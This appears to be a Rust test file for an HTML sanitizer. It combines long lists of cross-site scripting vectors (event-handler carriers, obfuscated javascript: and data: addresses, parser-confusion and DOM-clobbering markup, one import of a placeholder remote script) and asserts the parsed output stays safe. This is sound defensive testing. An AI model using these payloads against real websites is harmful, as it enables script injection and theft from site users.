//! What attackers write: the categories of public lists of cross-site scripting vectors, each combined with the ways scripts
//! are started and hidden. Asserted on the tree: no scheme but the four, no element or attribute but the few.

use std::collections::BTreeSet;

use super::*;

/// Starts a script, in an attribute of an event.
const CALLS: &[&str] = &[
    "alert(1)",
    "confirm`1`",
    "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "&#97;lert(1)",
    "import('//x.example/x.js')",
];

/// Elements that have run scripts by an event, with what else they need.
const CARRIERS: &[&str] = &[
    "img src=x onerror",
    "img src=x: onerror",
    "img/src=x/onerror",
    "image src=x onerror",
    "svg onload",
    "svg/onload",
    "body onload",
    "body onpageshow",
    "iframe onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "keygen autofocus onfocus",
    "video src=x onerror",
    "video><source onerror",
    "audio src=x onerror",
    "audio controls autoplay onplay",
    "details open ontoggle",
    "marquee onstart",
    "marquee loop=1 onfinish",
    "object data=x onerror",
    "embed src=x onload",
    "link rel=stylesheet href=x onerror",
    "style onload",
    "script src=x onerror",
    "frameset onload",
    "isindex type=image src=x onerror",
    "form onsubmit",
    "button onclick",
    "a href=https://a.example onmouseover",
    "div onpointerenter",
    "p onmousemove",
    "table background=x onscroll",
    "td onclick",
    "x onfocus",
    "x tabindex=1 onactivate",
    "custom-element onclick",
    "math onclick",
    "bgsound onpropertychange",
    "at id=0 onclick",
    "span itemtype=x/Mention onclick",
    "emoji alt=x onload",
    "attachment id=x onload",
    "pre onclick",
    "blockquote oncopy",
    "li oncut",
    "b style=animation-name:x onanimationstart",
    "body background=x onhashchange",
    "dialog open onclose",
    "video poster=x onloadstart",
    "input type=image src=x onerror",
    "template onload",
    "noscript onload",
    "title onload",
    "portal src=x onload",
    "meter onmouseover",
];

/// Addresses that are scripts, or documents with scripts, in the ways they are hidden.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "j\na\nv\na\ns\nc\nr\ni\np\nt:alert(1)",
    "javascript\t:alert(1)",
    "\u{1}javascript:alert(1)",
    "\u{0}javascript:alert(1)",
    "\u{1f}javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "\u{feff}javascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x000006Aavascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#14;javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript://https://a.example/%0aalert(1)",
    "javascript:/*https://*/alert(1)",
    "javascript:void(0)?x=https://a.example",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "VBScript:x",
    "livescript:x",
    "mocha:x",
    "jar:https://a.example!/x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,x",
    "blob:https://a.example/x",
    "filesystem:https://a.example/x",
    "file:///etc/passwd",
    "\\\\host\\share\\x",
    "file://host/share",
    "about:blank",
    "about:srcdoc",
    "view-source:https://a.example",
    "chrome://settings",
    "resource://x",
    "ms-msdt:/id x",
    "search-ms:query=x",
    "ms-officecmd:x",
    "steam://x",
    "zoommtg://x",
    "slack://x",
    "msteams:x",
    "passerelle:x",
    "tauri://localhost",
    "ipc://localhost",
    "asset://localhost/x",
    "ws://a.example",
    "ftp://a.example",
    "//a.example/x",
    "/x",
    "#x",
    "?x",
    "x",
    "",
    ":",
    "https:",
    "https://",
    "http:///",
    "feed:javascript:x",
    "wyciwyg://x",
    "intent://x#Intent;end",
    "sms:1",
    "callto:x",
    "skype:x",
];

/// Where an address can stand.
const PLACES: &[&str] = &[
    "<a href=\"@\">x</a>",
    "<a href='@'>x</a>",
    "<a\nhref\n=\n\"@\">x</a>",
    "<A HREF=\"@\">x</A>",
    "<a xlink:href=\"@\">x</a>",
    "<img src=\"@\">",
    "<img srcset=\"@\">",
    "<img id=x src=\"@\" alt=y>",
    "<svg><a xlink:href=\"@\"><text>x</text></a></svg>",
    "<math href=\"@\">x</math>",
    "<iframe src=\"@\"></iframe>",
    "<form action=\"@\"><input type=submit>",
    "<button formaction=\"@\">x</button>",
    "<object data=\"@\"></object>",
    "<embed src=\"@\">",
    "<base href=\"@\"><a href=\"x\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=@\">",
    "<body background=\"@\">x",
    "<area href=\"@\">",
    "<emoji alt=x src=\"@\">",
    "<img itemtype=x/Sticker src=\"@\" id=y>",
    "<link rel=import href=\"@\">",
    "<blockquote cite=\"@\">x</blockquote>",
    "<td background=\"@\">x",
    "<video poster=\"@\">",
];

/// Markup that parsers have disagreed about: what one takes for text is an element to the other.
const CONFUSIONS: &[&str] = &[
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script >",
    "<script\u{0}>alert(1)</script>",
    "<script x=\">\" src=x></script>",
    "</title><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><p><style><img title=\"</style><img src onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><p><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><use href=\"data:image/svg+xml,x\">",
    "<!--><script>alert(1)</script-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE x [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "<%<!--'%><script>alert(1)</script -->",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src='x' title='\"><img src=x onerror=alert(1)>'>",
    "<a href=\"https://a.example\" title=\"</a><script>alert(1)</script>\">x</a>",
    "<a href=\"https://a.example/\"><script>alert(1)</script>\">x",
    "<p/onclick=alert(1)>x",
    "<p\u{c}onclick=alert(1)>x",
    "<p\"onclick=alert(1)\">x",
    "<p `onclick=alert(1)`>x",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<table><tr><td><script>alert(1)</td></script><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<template><s><template><s><img src=x onerror=alert(1)>@</s></template>",
    "<div style=\"background:url(javascript:alert(1))\">x",
    "<div style=\"width:expression(alert(1))\">x",
    "<style>@import 'javascript:alert(1)';</style>",
    "<p style=position:fixed;inset:0>x",
    "<x is=script>alert(1)</x>",
    "<div id=document><img name=cookie>",
    "<form id=x><input name=attributes>",
    "<a id=defaultView><a id=defaultView name=alert>",
    "<img name=getElementById>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<plaintext><script>alert(1)</script>",
    "<listing>&ltimg src=x onerror=alert(1)&gt</listing>",
    "<a href=\"https://a.example\" target=_blank ping=https://b.example>x</a>",
    "<at id='\"><img src=x onerror=alert(1)>'>x</at>",
    "<emoji alt='\"><script>alert(1)</script>'></emoji>",
    "<img id='\"onerror=alert(1) x=\"'>",
    "<attachment id='\"><svg onload=alert(1)>'>",
    "<span itemtype=x/Mention itemid='\"><script>'>\"><script>alert(1)</script></span>",
    "<pre><script>alert(1)</script></pre>",
    "<codeblock><img src=x onerror=alert(1)></codeblock>",
    "<video><noscript></video><img src=x onerror=alert(1)></noscript>",
];

fn vectors() -> BTreeSet<String> {
    let events = CARRIERS.iter().flat_map(|carrier| {
        CALLS.iter().flat_map(move |call| {
            [
                format!("<{carrier}=\"{call}\">x"),
                format!("<{carrier}={call}//"),
                format!("\"><{}='{call}'>x", carrier.to_ascii_uppercase()),
            ]
        })
    });
    let addresses = ADDRESSES.iter().flat_map(|address| PLACES.iter().map(move |place| place.replace('@', address)));
    events.chain(addresses).chain(CONFUSIONS.iter().map(|vector| (*vector).to_owned())).collect()
}

#[test]
fn no_vector_leaves_anything_but_the_tree() {
    let vectors = vectors();
    assert!(vectors.len() > 2500, "{}", vectors.len());
    for vector in &vectors {
        let document = read(vector);
        assert_sound(vector, &document);
        assert_eq!(read(&write(&document)), document, "{vector}");
    }
}

#[test]
fn no_address_of_the_list_is_a_link() {
    for address in ADDRESSES {
        for place in &PLACES[..4] {
            let document = read(&place.replace('@', address));
            let link = inlines(&document.blocks).into_iter().find(|inline| matches!(inline, Inline::Link { .. }));
            assert!(link.is_none(), "{address:?} in {place} leads to {link:?}");
        }
    }
}

#[test]
fn nested_within_each_other_they_are_no_better() {
    let vectors: Vec<String> = vectors().into_iter().collect();
    for pair in vectors.windows(2).step_by(7) {
        for vector in [
            pair.concat(),
            format!("<ul><li><a href=\"https://a.example\">{}{}", pair[0], pair[1]),
            format!("<p title=\"{}\">{}", pair[0], pair[1]),
        ] {
            assert_sound(&vector, &read(&vector));
        }
    }
}

#[test]
fn scripts_are_not_even_words() {
    for vector in [
        "a<script>alert(1)</script>b",
        "a<svg><script>alert(1)</script></svg>b",
        "a<style>alert(1)</style>b",
        "a<iframe srcdoc=x>alert(1)</iframe>b",
    ] {
        assert_eq!(canonical(vector), "<p>ab</p>", "{vector}");
    }
}
